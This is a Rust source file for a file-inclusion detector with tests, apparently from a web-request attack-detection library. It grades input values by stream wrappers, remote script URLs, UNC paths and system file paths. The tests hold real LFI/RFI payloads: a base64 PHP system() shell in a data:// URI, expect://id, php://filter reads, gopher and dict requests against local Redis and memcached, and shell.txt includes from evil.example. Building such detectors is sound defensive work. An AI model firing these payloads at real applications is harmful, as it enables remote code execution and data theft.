//! File inclusion: a value that makes the application include or read a file it should not — a remote URL where a
//! file name is expected (RFI), a stream wrapper (`php://filter`, `expect://`, `data:`, `zip://`, `phar://`,
//! `jar:`, `gopher://`, `dict://`, `file://`), or a local file reached by traversal or named by its absolute path
//! (LFI: `/etc/passwd`, `/proc/self/fd/0`, `/var/log/apache2/access.log`, `C:\xampp\php\php.ini`).
//!
//! Local inclusion reuses the path-traversal reading ([`super::path_traversal`]): this class reports everything
//! `path_traversal` reports at the same level, plus absolute paths to configuration and log files, which a file
//! inclusion reads (log poisoning) but a traversal check alone would not name.
//!
//! # What each level reports
//! - **Low**: what `path_traversal` reports at Low; a stream wrapper that no user value has a reason to carry
//!   (`php://`, `expect://`, `zip://`, `phar://`, `compress.zlib://`, `glob://`, `gopher://`, `dict://`,
//!   `jar:…!/`, `file:/…`, `data://` and `data:text/plain`, PHP filter names such as `convert.iconv.…` or
//!   `string.rot13`); a remote URL that ends in `?` or is cut by a NUL (`http://evil/shell.txt?`), the classic way
//!   to drop the suffix the application appends.
//! - **Medium** (recommended) adds: what `path_traversal` reports at Medium; an absolute path to a configuration or
//!   log file, or under any system root (`/usr/local/etc/x`, `/var/www/conf/x`, `/tmp/sess_x`); an `ftp://`, `smb://` or `sftp://` URL with a path; an `http(s)://` URL on an IP address to a script
//!   or a text file fetched to be included (`.php`, `.txt`, `.inc`, `.phtml`, `.sh`, `.pl`, `.py`, `.cgi`…); a UNC
//!   path to such a file. A plain `https://` URL on a named host (a link, a redirect target, a `robots.txt`, an
//!   `index.php` page) is not reported.
//! - **High** adds: what `path_traversal` reports at High; any other `data:` URI than an image; any URL to a
//!   server-side script or an includable text file (`shell.txt`, `index.php`).
//!
//! Linear in the value's length; no allocation.

use super::command::lexicon::{has_at, is_word, lc, target};
use super::path_traversal;
use super::{Sensitivity, Subject};

/// Level values, compared with the one asked for.
const LOW: u8 = 3;
/// See [`LOW`].
const MEDIUM: u8 = 2;
/// See [`LOW`].
const HIGH: u8 = 1;

/// Whether `subject` carries a file inclusion at `sensitivity`.
pub fn detect(subject: &Subject<'_>, sensitivity: Sensitivity) -> bool {
    let need = match sensitivity {
        Sensitivity::Low => LOW,
        Sensitivity::Medium => MEDIUM,
        Sensitivity::High => HIGH,
    };
    // One path reading per form (decoded, and raw when it differs) serves both the traversal rules and ours.
    let local = |scan: &path_traversal::Scan| {
        let rooted = scan.rooted_file || (scan.rooted >= target::ROOT && scan.rooted_deep);
        path_traversal::verdict(scan, sensitivity) || (need <= MEDIUM && rooted)
    };
    if local(&path_traversal::scan(subject.lower)) {
        return true;
    }
    // Only a remote URL asks whether the value was cut, and it needs a `:`.
    let cut = memchr::memchr(b':', subject.lower).is_some()
        && (memchr::memchr(0, subject.raw).is_some()
            || memchr::memchr_iter(b'%', subject.raw).any(|at| has_at(subject.raw, at, b"%00")));
    if wrappers_and_urls(subject.lower, cut) >= need {
        return true;
    }
    subject.raw != subject.decoded && local(&path_traversal::scan(subject.raw))
}

/// Whether `hay` contains `needle`, ignoring ASCII case.
fn has_at_any(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
}

/// The highest level reached by a wrapper, a PHP filter name or a remote URL in `text` (lower case); `cut` says
/// the value carried a NUL. Each kind is found by searching for the byte it needs (`:`, `\`, `.`), not by testing
/// every byte; the result is the highest level of any, so the order they are read in does not matter.
fn wrappers_and_urls(text: &[u8], cut: bool) -> u8 {
    let mut best = 0;
    // Where the last remote URL read ended: a `:` inside it is not another scheme (keeps the pass linear).
    let mut url_end = 0;
    for colon in memchr::memchr_iter(b':', text) {
        if colon >= url_end {
            best = best.max(scheme(text, colon, cut, &mut url_end));
            if best >= LOW {
                return best;
            }
        }
    }
    for at in memchr::memchr_iter(b'\\', text) {
        if lc(text, at + 1) == b'\\' && (at == 0 || lc(text, at - 1) != b'\\') {
            best = best.max(unc(text, at + 2));
        }
    }
    for dot in memchr::memchr_iter(b'.', text) {
        for (offset, first) in PHP_FILTER_DOTS {
            let Some(start) = dot.checked_sub(offset) else {
                continue;
            };
            if lc(text, start) == first && (start == 0 || !is_word(lc(text, start - 1))) {
                best = best.max(php_filter(text, start));
            }
        }
        if best >= LOW {
            return best;
        }
    }
    best
}

/// Stream wrappers that read or run what follows; `://` must follow them.
const WRAPPERS: &[&[u8]] = &[
    b"php",
    b"expect",
    b"zip",
    b"phar",
    b"glob",
    b"gopher",
    b"dict",
    b"compress.zlib",
    b"compress.bzip2",
    b"rar",
    b"ogg",
    b"ssh2.shell",
    b"ssh2.exec",
    b"ssh2.tunnel",
    b"ssh2.sftp",
    b"ssh2.scp",
    b"netdoc",
];

/// The level of what the `:` at `i` ends: a wrapper, a `file:`, `jar:` or `data:` URI, or a remote URL.
fn scheme(text: &[u8], colon: usize, cut: bool, url_end: &mut usize) -> u8 {
    let mut start = colon;
    while start > 0 && colon - start < 16 {
        let b = lc(text, start - 1);
        if b.is_ascii_alphanumeric() || matches!(b, b'.' | b'+' | b'-') {
            start -= 1;
        } else {
            break;
        }
    }
    let name = text.get(start..colon).unwrap_or_default();
    let slashes = has_at(text, colon + 1, b"//");
    if slashes && WRAPPERS.contains(&name) {
        return LOW;
    }
    match name {
        b"file" if matches!(lc(text, colon + 1), b'/' | b'\\') => LOW,
        // `jar:http://host/x.jar!/` and `jar:file:…`: Java opens the archive it names.
        b"jar" if lc(text, colon + 1).is_ascii_alphabetic() => LOW,
        b"data" => data_uri(text, colon + 1),
        b"http" | b"https" | b"ftp" | b"ftps" | b"sftp" | b"smb" | b"webdav" if slashes => {
            remote(text, colon + 3, name, cut, url_end)
        }
        _ => 0,
    }
}

/// A `data:` URI whose content starts at `i`.
fn data_uri(text: &[u8], i: usize) -> u8 {
    if has_at(text, i, b"//") || has_at(text, i, b"text/plain") || has_at(text, i, b"application/x-httpd-php") {
        LOW
    } else if has_at(text, i, b"image/") {
        0
    } else if has_at(text, i, b"text/") || has_at(text, i, b"application/") || lc(text, i) == b';' {
        // `data:;base64,PD9waHA…` carries PHP as well as `data:text/plain` does.
        let head = text.get(i..text.len().min(i + 96)).unwrap_or_default();
        if has_at_any(head, b"base64,pd9") {
            LOW
        } else {
            HIGH
        }
    } else {
        0
    }
}

/// A remote URL whose host starts at `i`.
fn remote(text: &[u8], i: usize, scheme: &[u8], cut: bool, url_end: &mut usize) -> u8 {
    let mut j = i;
    // A bare address: IPv4 (digits and dots, maybe a port) or IPv6 (hex digits and colons, maybe bracketed).
    let (mut v4, mut v6, mut colons) = (true, true, 0);
    while j < text.len() && !matches!(lc(text, j), b'/' | b'?' | b'#' | b' ' | b'\'' | b'"' | b'\\') && j - i < 256 {
        let b = lc(text, j);
        colons += usize::from(b == b':');
        v4 &= b.is_ascii_digit() || b == b'.' || (b == b':' && colons == 1);
        v6 &= b.is_ascii_hexdigit() || matches!(b, b':' | b'.' | b'[' | b']');
        j += 1;
    }
    let ip_host = v4 || (v6 && colons >= 2);
    if j == i {
        return 0;
    }
    // The path, up to the query, the fragment or the end of the URL.
    let path_start = j;
    while j < text.len() && !matches!(lc(text, j), b'?' | b'#' | b' ' | b'\'' | b'"' | b'<' | b'>') && j - i < 2048 {
        j += 1;
    }
    *url_end = j;
    let path = text.get(path_start..j).unwrap_or_default();
    let query_empty = lc(text, j) == b'?' && matches!(lc(text, j + 1), 0 | b'?' | b' ' | b'\'' | b'"' | b'&');
    if query_empty || (cut && !path.is_empty()) {
        return LOW;
    }
    let extension = extension_of(path);
    let fetched = [&b"txt"[..], b"inc", b"phtml", b"sh", b"pl", b"py", b"cgi"].contains(&extension);
    let script =
        fetched || [&b"php"[..], b"php3", b"php4", b"php5", b"php7", b"asp", b"aspx", b"jsp"].contains(&extension);
    // A link to a text file on a named host is still a link; on a bare address, or over FTP or SMB, it is a payload.
    let plain_web = scheme == b"http" || scheme == b"https";
    if (!plain_web && path.len() > 1) || (script && ip_host) {
        MEDIUM
    } else if script {
        HIGH
    } else {
        0
    }
}

/// The extension of a URL path's last segment (lower case), empty if none.
fn extension_of(path: &[u8]) -> &[u8] {
    let last = path.rsplit(|&b| b == b'/').next().unwrap_or_default();
    match last.iter().rposition(|&b| b == b'.') {
        Some(dot) => last.get(dot + 1..).unwrap_or_default(),
        None => &[],
    }
}

/// A UNC path `\\host\share\file` whose host starts at `i`: a script or text file there is a remote inclusion.
fn unc(text: &[u8], i: usize) -> u8 {
    let mut j = i;
    while (is_word(lc(text, j)) || matches!(lc(text, j), b'.' | b'-')) && j - i < 64 {
        j += 1;
    }
    if j == i || lc(text, j) != b'\\' {
        return 0;
    }
    let path_start = j;
    while j < text.len() && !matches!(lc(text, j), b' ' | b'\'' | b'"' | b'?') && j - i < 1024 {
        j += 1;
    }
    let path = text.get(path_start..j).unwrap_or_default();
    let last = path.rsplit(|&b| b == b'\\').next().unwrap_or_default();
    let extension = match last.iter().rposition(|&b| b == b'.') {
        Some(dot) => last.get(dot + 1..).unwrap_or_default(),
        None => &[],
    };
    if [&b"php"[..], b"txt", b"inc", b"phtml", b"asp", b"aspx", b"jsp"].contains(&extension) {
        MEDIUM
    } else {
        0
    }
}

/// PHP filter names used outside a `php://filter` URL (a parameter passed to `php://filter/…/resource=`).
const PHP_FILTERS: [&[u8]; 5] =
    [b"convert.iconv.", b"convert.base64-", b"convert.quoted-printable-", b"string.rot13", b"zlib.inflate"];

/// Where the first dot of each [`PHP_FILTERS`] name is (`convert.`, `string.`, `zlib.`), with the name's first
/// byte: a name is looked for only that far before a dot, and only where that byte is.
const PHP_FILTER_DOTS: [(usize, u8); 3] = [(7, b'c'), (6, b's'), (4, b'z')];

/// A [`PHP_FILTERS`] name at `i`.
fn php_filter(text: &[u8], i: usize) -> u8 {
    if PHP_FILTERS.iter().any(|name| has_at(text, i, name)) {
        LOW
    } else {
        0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::Place;

    /// The lowest level that reports `text` (`None`: not even High).
    fn lowest(text: &str) -> Option<Sensitivity> {
        let lower = text.to_ascii_lowercase();
        let subject = Subject::plain(text.as_bytes(), lower.as_bytes(), Place::Query);
        [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].into_iter().find(|&l| detect(&subject, l))
    }

    #[test]
    fn wrappers_and_cut_urls_are_unmistakable() {
        for attack in [
            "php://filter/convert.base64-encode/resource=index.php",
            "PHP://input",
            "expect://id",
            "zip://uploads/a.jpg#shell.php",
            "phar://uploads/x.phar/y",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTsgPz4=",
            "data:text/plain,<?php phpinfo(); ?>",
            "file:///etc/hosts",
            "jar:http://10.0.0.1/x.jar!/",
            "gopher://127.0.0.1:6379/_INFO",
            "dict://127.0.0.1:11211/stat",
            "compress.zlib://x.gz",
            "convert.iconv.UTF8.UTF16",
            "http://evil.example/shell.txt?",
            "https://evil.example/x.php??",
            "../../../../var/log/apache2/access.log",
            "/proc/self/fd/3",
        ] {
            assert_eq!(lowest(attack), Some(Sensitivity::Low), "{attack}");
        }
    }

    #[test]
    fn nul_cut_urls_are_unmistakable() {
        let raw = b"http://evil.example/shell.txt\0";
        let decoded = b"http://evil.example/shell.txt";
        let subject = Subject {
            raw,
            decoded,
            lower: decoded,
            bytes: crate::attacks::ByteSet::ALL,
            is_name: false,
            place: Place::Query,
        };
        assert!(detect(&subject, Sensitivity::Low));
    }

    #[test]
    fn weaker_forms_wait_for_medium_or_high() {
        for attack in [
            "http://10.1.2.3/shell.txt",
            "http://10.1.2.3/x.php",
            "https://[2001:db8::1]/x.php",
            "http://10.1.2.3:8080/x.inc",
            "ftp://files.example/payload",
            "\\\\attacker\\share\\shell.php",
            "/var/www/conf/httpd.conf",
            "C:\\xampp\\apache\\logs\\access.log",
            "/usr/local/apache2/logs/error_log",
            "/usr/share/doc/x",
            "/tmp/uploads/x",
        ] {
            assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
        }
        for attack in [
            "https://example.com/index.php",
            "https://cafe.bad/index.php?x=1",
            "http://evil.example/shell.txt",
            "data:text/html,hello",
        ] {
            assert_eq!(lowest(attack), Some(Sensitivity::High), "{attack}");
        }
    }

    #[test]
    fn plain_urls_and_documents_pass_at_every_level() {
        for benign in [
            "https://example.com/welcome",
            "https://www.example.com/a/b?c=d&e=f",
            "http://example.com/",
            "data:image/png;base64,iVBORw0KGgo=",
            "mailto:someone@example.com",
            "Zip: 90210",
            "file: report.pdf",
            "convert the string to upper case",
            "/users/42",
            "/blog/changelog",
            "Time: 10:30",
        ] {
            assert_eq!(lowest(benign), None, "{benign}");
        }
    }

    #[test]
    fn long_repetitive_values_are_read_in_one_pass() {
        // Each read looks a bounded window ahead, so these finish in one pass; a quadratic reading would hang here.
        for unit in ["http://", "data:", "php:", "\\\\h\\", "file:", "convert.", "/var/log/", "::::"] {
            let text = unit.repeat(16 * 1024 / unit.len());
            let lower = text.to_ascii_lowercase();
            for level in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
                let _ = detect(&Subject::plain(text.as_bytes(), lower.as_bytes(), crate::attacks::Place::Query), level);
            }
        }
    }

    /// [`wrappers_and_urls`] testing every byte, as it did before it searched for the bytes each kind needs.
    fn every_byte(text: &[u8], cut: bool) -> u8 {
        let mut best = 0;
        let mut url_end = 0;
        for i in 0..text.len() {
            let level = match lc(text, i) {
                b':' if i >= url_end => scheme(text, i, cut, &mut url_end),
                b'c' | b's' | b'z' if i == 0 || !is_word(lc(text, i - 1)) => php_filter(text, i),
                b'\\' if lc(text, i + 1) == b'\\' && (i == 0 || lc(text, i - 1) != b'\\') => unc(text, i + 2),
                _ => 0,
            };
            best = best.max(level);
            if best >= LOW {
                return best;
            }
        }
        best
    }

    #[test]
    fn searching_changes_nothing() {
        // The offsets of the filter names' first dots are the ones searched back from.
        let mut dots: Vec<(usize, u8)> = PHP_FILTERS
            .iter()
            .filter_map(|name| Some((name.iter().position(|&b| b == b'.')?, *name.first()?)))
            .collect();
        dots.sort_unstable();
        dots.dedup();
        let mut expected = PHP_FILTER_DOTS.to_vec();
        expected.sort_unstable();
        assert_eq!(dots, expected);
        let mut rng = crate::token_analysis::test_rng::Rng(0xf11e_1c1d);
        let mut below = |n: usize| (rng.next() % n as u64) as usize;
        let pieces: [&str; 22] = [
            "php://",
            "http://",
            "https://",
            "10.0.0.1",
            "evil.com",
            "/shell.txt",
            "?",
            ":",
            "\\\\",
            "\\",
            "host",
            "share",
            "x.php",
            "convert.iconv.",
            "string.rot13",
            "zlib.inflate",
            "a",
            ".",
            "data:",
            "text/plain",
            " ",
            "file:/",
        ];
        for _ in 0..20_000 {
            let mut text = String::new();
            for _ in 0..below(8) {
                text.push_str(pieces.get(below(pieces.len())).copied().unwrap_or_default());
            }
            for cut in [false, true] {
                assert_eq!(wrappers_and_urls(text.as_bytes(), cut), every_byte(text.as_bytes(), cut), "{text:?}");
            }
        }
    }

    #[test]
    fn arbitrary_bytes_never_panic() {
        let mut rng = crate::token_analysis::test_rng::Rng(0x1234_5678_9abc_def1);
        let mut next = move || rng.next();
        let alphabet = b"php:/\\.?%00datafilejar!httpsconvert.iconv.=;,base64 etc";
        for _ in 0..4000 {
            let len = (next() % 64) as usize;
            let bytes: Vec<u8> = (0..len)
                .map(|_| {
                    let r = next();
                    if r % 4 == 0 {
                        r as u8
                    } else {
                        alphabet.get((r >> 8) as usize % alphabet.len()).copied().unwrap_or(b'.')
                    }
                })
                .collect();
            let lower = bytes.to_ascii_lowercase();
            for level in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
                let _ = detect(&Subject::plain(&bytes, &lower, Place::Query), level);
            }
        }
    }
}
